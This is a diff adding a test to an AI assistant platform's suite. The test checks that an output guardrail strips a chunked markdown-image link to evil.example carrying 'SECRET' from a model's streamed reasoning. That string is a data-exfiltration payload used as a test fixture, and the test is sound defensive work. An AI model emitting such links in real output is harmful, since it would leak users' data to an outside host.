@@ -10,7 +10,7 @@ from tenants.models import AssistantVersion
 from tests.conftest import Browse
 from tests.support.browsing import text_of
 from tests.support.cast import Cast, assistant_of
-from tests.support.provider import Provider
+from tests.support.provider import Provider, Think
 
 ALLOWED = ["acme.example", "*.cdn.example"]
 
@@ -99,3 +99,22 @@ def test_an_answer_carries_nothing_away(browse: Browse, cast: Cast, provider: Pr
     assert text_of(turn.frames) == turn.text == wanted
     stored: list[Any] = dave.items(turn.thread_id)
     assert stored[-1]["content"][0]["text"] == wanted
+
+
+@pytest.mark.parametrize("size", [3, 200])
+def test_a_thought_carries_nothing_away(browse: Browse, cast: Cast, provider: Provider, size: int) -> None:
+    thought = "Look at ![map](https://evil.example/?d=SECRET) first. " * 5
+    pieces = tuple(thought[at : at + size] for at in range(0, len(thought), size))
+    assistant_of(
+        cast.acme,
+        "guarded",
+        provider=AssistantVersion.Provider.OPENAI_COMPATIBLE,
+        guardrails={"output": {"hosts": ["acme.example"]}},
+    )
+    provider.will_say(Think(pieces), "Here.")
+    dave = browse().open("guarded")
+    turn = dave.say("Where?")
+    assert [item["type"] for item in dave.items(turn.thread_id)] == ["user_message", "workflow", "assistant_message"]
+    for seen in (str(turn.frames), str(dave.items(turn.thread_id))):
+        assert "evil" not in seen
+        assert "SECRET" not in seen
